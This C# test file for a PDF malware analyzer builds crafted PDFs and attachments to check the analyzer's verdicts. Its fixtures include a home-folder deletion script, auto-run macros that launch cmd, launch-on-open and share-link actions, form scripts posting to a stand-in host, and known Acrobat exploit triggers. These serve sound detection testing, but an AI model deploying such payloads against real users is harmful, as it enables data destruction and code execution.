using System.Text;
using Analyzer.Core;
using Analyzer.Engines.Tests.Making;
using Analyzer.Engines.Tests.Pdf.Encryption;

namespace Analyzer.Engines.Tests.Pdf;

/// <summary>Two variants of each kind of document in ../shared/data/pdf-wild that are not in that folder.</summary>
public sealed class WildVariantTests
{
    private const string Alert = "<</S/JavaScript/JS(app.alert\\(1\\))>>";

    public static TheoryData<string, string, Verdict> Documents() => new()
    {
        { "link to a program",
            Page("/Annots[<</Subtype/Link/Rect[9 9 99 20]/A<</S/URI/URI(https://a.example/setup.msi)>>>>]"), Verdict.Suspicious },
        { "link to a program",
            Page("/Annots[<</Subtype/Link/Rect[9 9 99 20]/PA<</S/URI/URI(http://a.example/x.pdf.lnk)>>>>]"), Verdict.Suspicious },
        { "link to a script", Page("/Annots[<</Subtype/Link/A<</S/URI/URI(https://a.example/a.vbs)>>>>]"), Verdict.Suspicious },
        { "link to a script", Page("/Annots[<</Subtype/Link/A<</S/URI/URI(javascript:fetch\\('a'\\))>>>>]"), Verdict.Suspicious },
        { "link to a share", Page("/Annots[<</Subtype/Link/A<</S/GoToR/F(\\\\\\\\h\\\\a.pdf)/D[0/Fit]>>>>]"), Verdict.Suspicious },
        { "link to a share", "<</Type/Outlines/First<</Title(a)/A<</S/URI/URI(file://h.example/s/a.pdf)>>>>>>", Verdict.Suspicious },
        { "link to a handler", Page("/Annots[<</Subtype/Link/A<</S/URI/URI(search-ms:query=a)>>>>]"), Verdict.Suspicious },
        { "link to a handler", "<</Type/Outlines/First<</Title(a)/A<</S/URI/URI(ms-officecmd:a)>>>>>>", Verdict.Suspicious },
        { "fetched", "<</Length 0/F<</FS/URL/F(http://a.example/a)>>>>stream\n\nendstream", Verdict.Suspicious },
        { "fetched", "<</Subtype/Form/Ref<</F(\\\\\\\\h\\\\s\\\\a.pdf)/Page 0>>/Length 0>>stream\n\nendstream", Verdict.Suspicious },
        { "page event", Page("/AA<</C<</S/GoToR/F(http://a.example/a.pdf)/D[0/Fit]>>>>"), Verdict.Suspicious },
        { "document event", "<</Type/Catalog/AA<</WP<</S/URI/URI(http://a.example/)>>>>>>", Verdict.Suspicious },
        { "document event",
            "<</Type/Catalog/AA<</DC<</S/SubmitForm/F<</FS/URL/F(http://a.example/)>>>>>>>>", Verdict.Suspicious },
        { "page event", Page("/Annots[<</Subtype/Widget/AA<</PV<</S/URI/URI(http://a.example/)>>>>>>]"), Verdict.Suspicious },
        { "rendition", Page($"/Annots[<</Subtype/Screen/AA<</PO<</S/Rendition/OP 0/JS(app.alert\\(2\\))>>>>>>]"), Verdict.Suspicious },
        { "rendition",
            $"<</Type/Catalog/OpenAction<</S/Named/N/NextPage/Next<</S/Rendition/JS<{Hex("app.alert(1)")}>>>>>>>", Verdict.Suspicious },
        { "mentions", "<</Title(How /JavaScript and /OpenAction work)/Author(/Launch /AA)>>", Verdict.Clean },
        { "mentions",
            "<</Type/Metadata/Length 58>>stream\n<rdf>/JavaScript /JS (app.alert(1)) /OpenAction /Launch</rdf>\nendstream", Verdict.Clean },
        { "memory",
            "<</Type/Catalog/OpenAction<</S/JavaScript/JS(var a = new Int32Array(new ArrayBuffer(64)); a[0] = 7;)>>>>",
            Verdict.Suspicious },
        { "memory", "<</Type/Catalog/OpenAction<</S/JavaScript/JS(Object.defineProperty([1], '0', {get: function \\(\\) {}});)>>>>",
            Verdict.Suspicious },
        { "prints", "<</Type/Catalog/OpenAction<</S/JavaScript/JS(this.print({bUI: true, bSilent: false});)>>>>", Verdict.Clean },
        { "prints", "<</Type/Catalog/Names<</JavaScript<</Names[(p)<</S/JavaScript/JS(print\\(\\);)>>]>>>>>>", Verdict.Clean },
        { "calculates", Field("AFSimple_Calculate\\(\"PRD\", [\"a\", \"b\"]\\);"), Verdict.Clean },
        { "calculates", Field("event.value = this.getField\\(\"a\"\\).value - 0 + 3;"), Verdict.Clean },
        { "goes to a page beside a link to a file",
            "<</Type/Catalog/OpenAction<</S/GoTo/D[3 0 R/Fit]>>/B<</Subtype/Link/A<</S/Launch/F(b.pdf)>>>>>>",
            Verdict.Clean },
        { "goes to a page beside a link to a file",
            "<</Type/Catalog/OpenAction[3 0 R/XYZ null null 0]/B<</Subtype/Link/A<</S/GoToR/F(b.pdf)/D[0/Fit]>>>>>>",
            Verdict.Clean },
        { "form with a script",
            Xfa("<field><event activity='ready'><script contentType='application/x-javascript'>app.alert(1)</script></event></field>"),
            Verdict.Suspicious },
        { "form with a script",
            Xfa("<field><calculate><script>Post(\"http://a.example/\", $)</script></calculate></field>"), Verdict.Suspicious },
        { "form that starts an attachment",
            Xfa("<event activity='initialize'><script contentType='application/x-javascript'>"
                + "event.target.exportDataObject({cName: 'a', nLaunch: 2});</script></event>"), Verdict.Malicious },
        { "form that starts an attachment",
            Xfa("<field><event activity='ready' ref='$layout'><script contentType='application/x-javascript'><![CDATA["
                + "var o = {cName: 'a', nLaunch: 1 + 1}; this['export' + 'DataObject'](o);]]></script></event></field>"),
            Verdict.Malicious },
        { "3D",
            "<</Type/3D/Subtype/PRC/OnInstantiate 4 0 R/Length 0>>stream\n\nendstream\nendobj\n"
                + "4 0 obj\n<</Length 12>>stream\napp.exec('a')\nendstream", Verdict.Suspicious },
        { "3D",
            "<</Subtype/RichMedia/RichMediaContent<</Assets<</Names[(a)<</F(a.u3d)/EF<</F 6 0 R>>>>]>>>>>>\nendobj\n"
                + "6 0 obj\n<</Type/3D/Subtype/U3D/OnInstantiate 9 0 R/Length 3>>stream\nU3D\nendstream", Verdict.Unable },
    };

    [Theory]
    [MemberData(nameof(Documents))]
    public void Complete_AVariant_IsJudgedAsItsKind(string kind, string content, Verdict verdict) =>
        ShouldBe(kind, verdict, new PdfBuilder().Object(2, content).Raw("trailer<</Root 1 0 R>>\n%%EOF\n").ToArray());

    public static TheoryData<string, string, string> Attachments() => new()
    {
        { "program", "setup.txt", Latin1(Samples.Program) },
        { "document with macros", "a.docm", Latin1(ZipMaker.Pack(("[Content_Types].xml", Samples.Bytes("<Types/>")),
            ("word/vbaProject.bin", Macros("Sub AutoOpen()\r\nShell \"cmd\"\r\nEnd Sub")))) },
        { "document with macros", "a.doc", Latin1(Macros("Sub Document_Open()\r\nCreateObject(\"a\").Run b\r\nEnd Sub")) },
        { "disc", "a.iso", Latin1(EveryKind.Disk()) },
        { "disc", "a.pdf", Latin1(EveryKind.Disk()) },
        { "page that saves a file", "a.html", "<html><script>var d = atob('" + new string('Q', 600) + "'); var b = new Blob([d]);"
            + "a.href = URL.createObjectURL(b); a.download = 'x.iso'; a.click();</script></html>" },
        { "page that saves a file", "a", "<!DOCTYPE html><a id=x href='data:application/zip;base64," + new string('Q', 600)
            + "' download='x.zip'></a><script>document.getElementById('x').click()</script>" },
        { "program", "run.sh", "#!/bin/sh\nrm -r ~\n" },
        { "shortcut", "a.url", "[InternetShortcut]\nURL=file://192.0.2.7/a/b.exe\n" },
        { "shortcut", "a.txt", Latin1([0x4C, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46, .. new byte[64]]) },
        { "document with a script", "b.pdf", $"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction {Alert}>>endobj\n" },
        { "document with a script", "noname", $"\n\n%PDF-1.4\n1 0 obj<</AA<</WC {Alert}>>/Type/Catalog>>endobj\n" },
        { "archive with a program",
            "a.zip", Latin1(ZipMaker.Pack(("docs/readme.txt", Samples.Text), ("docs/setup.exe", Samples.Program))) },
        { "archive with a program", "a.bin", Latin1(ZipMaker.Pack(("inner.zip", ZipMaker.Pack(("a.scr", Samples.Program))))) },
    };

    /// <summary>Attached as they are, and in documents that are encrypted for everyone.</summary>
    [Theory]
    [MemberData(nameof(Attachments))]
    public void Complete_AnAttachment_IsNeverClean(string kind, string name, string content)
    {
        var bytes = Encoding.Latin1.GetBytes(content);
        var named = $"<</Type/Catalog/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F({name})/EF<</F 5 0 R>>>>]>>>>>>";
        var encrypted = new EncryptedBuilder();
        ShouldBe(kind, Verdict.Suspicious, new PdfBuilder().Object(1, named).Stream(5, "/Type/EmbeddedFile", bytes).ToArray());
        ShouldBe(kind, Verdict.Suspicious,
            new PdfBuilder().Object(1, named).Stream(5, "/Filter/FlateDecode", PdfBuilder.Zlib(bytes)).ToArray());
        ShouldBe(kind, Verdict.Suspicious, encrypted
            .Object(1, named.Replace($"({name})", encrypted.String(name)).Replace("(a)", encrypted.String("a")))
            .Stream(5, "/Type/EmbeddedFile", bytes).Key(20).ToArray());
    }

    /// <summary>Harmless or not, nobody can tell: with an action that can be seen, and with everything encrypted.</summary>
    [Fact]
    public void Complete_AUserPassword_IsUnableAndNeverClean()
    {
        foreach (var password in new[] { "secret", "pässword" })
        {
            var all = new EncryptedBuilder(password);
            var page = all.Object(1, "<</Type/Catalog/Pages 2 0 R>>").Object(2, $"<</Title({all.String("a")})>>")
                .Stream(5, "", "BT ET"u8.ToArray()).Key(20).ToArray();
            ShouldBe("user password", Verdict.Unable, page);
            PdfBuilder.Analyze(page).Unable!.ShouldContain(reason => reason.Reason == "needs-password");

            var objects = new EncryptedBuilder(password) { Methods = "/CF<</StdCF<</CFM/AESV3/Length 32>>>>/StmF/StdCF/StrF/Identity" };
            ShouldBe("user password", Verdict.Unable, objects.Object(1, "<</Type/Catalog>>")
                .Stream(6, "/Type/ObjStm/N 1/First 4", "7 0 <</Type/Pages>>"u8.ToArray()).Key(20).ToArray());
        }
    }

    [Fact]
    public void Complete_ALaterRevision_IsJudged()
    {
        foreach (var action in new[] { Alert, "<</S/Launch/F(a.exe)>>" })
        {
            var first = new PdfBuilder().Object(1, "<</Type/Catalog/Pages 3 0 R>>").Raw("trailer<</Root 1 0 R>>\n%%EOF\n");
            ShouldBe("revision", Verdict.Suspicious, first.Object(1, $"<</Type/Catalog/OpenAction {action}>>").Raw("%%EOF\n").ToArray());
            ShouldBe("revision", Verdict.Suspicious, new PdfBuilder().Object(1, $"<</Type/Catalog/OpenAction {action}>>").Raw("%%EOF\n")
                .Object(1, "<</Type/Catalog>>").Raw("%%EOF\n").ToArray());
        }
    }

    [Theory]
    [InlineData("%PDF-1.4\n")]
    [InlineData("\u00EF\u00BB\u00BF%pdf-1.4\n")]
    [InlineData("%!PS-Adobe-3.0 PDF-1.4\n")]
    public void Complete_AnArchiveOrAMailBehindTheEnd_IsTold(string header)
    {
        var document = Encoding.Latin1.GetBytes($"{header}1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n");
        ShouldBe("archive", Verdict.Suspicious, [.. document, .. ZipMaker.Pack(("a.exe", Samples.Program))]);
        ShouldBe("mail", Verdict.Suspicious,
        [
            .. document, .. "MIME-Version: 1.0\nContent-Type: text/html\n\n"u8,
            .. "<html><script>new ActiveXObject('WScript.Shell').Run('a')</script></html>\n"u8,
        ]);
        ShouldBe("alert", Verdict.Suspicious,
            Encoding.Latin1.GetBytes($"{header}1 0 obj<</Type/Catalog/OpenAction {Alert}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"));
    }

    [Theory]
    [InlineData("this.media.newPlayer(null)")]
    [InlineData("util.printf(\"%45000.45000f\", 5)")]
    public void Complete_AnHarmlessRevisionBeforeAnAttack_IsMalicious(string attack) => ShouldBe("attack", Verdict.Malicious,
        new PdfBuilder().Object(1, "<</Type/Catalog/OpenAction 4 0 R>>")
            .Object(4, "<</S/JavaScript/JS(this.print\\(true\\);)>>").Raw("%%EOF\n")
            .Object(4, $"<</S/JavaScript/JS<{Hex(attack)}>>>").Raw("%%EOF\n").ToArray());

    private static void ShouldBe(string kind, Verdict verdict, byte[] document)
    {
        var report = PdfBuilder.Analyze(document);

        var isAtLeast = verdict == Verdict.Suspicious && report.Verdict == Verdict.Malicious;
        (isAtLeast ? verdict : report.Verdict).ShouldBe(
            verdict, $"{kind}: {string.Join(", ", report.Findings.Select(finding => $"{finding.Rule} {finding.Points}"))}");
    }

    private static byte[] Macros(string code) =>
        new OleMaker().Add("WordDocument", new byte[600]).Macros("Macros/", ("ThisDocument", code)).ToArray();

    private static string Page(string entries) => $"<</Type/Page/MediaBox[0 0 595 842]{entries}>>";

    private static string Field(string script) => $"<</FT/Tx/T(c)/AA<</C<</S/JavaScript/JS({script})>>>>>>";

    private static string Xfa(string template)
    {
        var xml = $"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template><subform>{template}</subform></template></xdp:xdp>";
        return $"<</XFA 7 0 R>>\nendobj\n7 0 obj\n<</Length {xml.Length}>>stream\n{xml}\nendstream";
    }

    private static string Hex(string text) => Convert.ToHexString(Encoding.ASCII.GetBytes(text));

    private static string Latin1(byte[] bytes) => Encoding.Latin1.GetString(bytes);
}
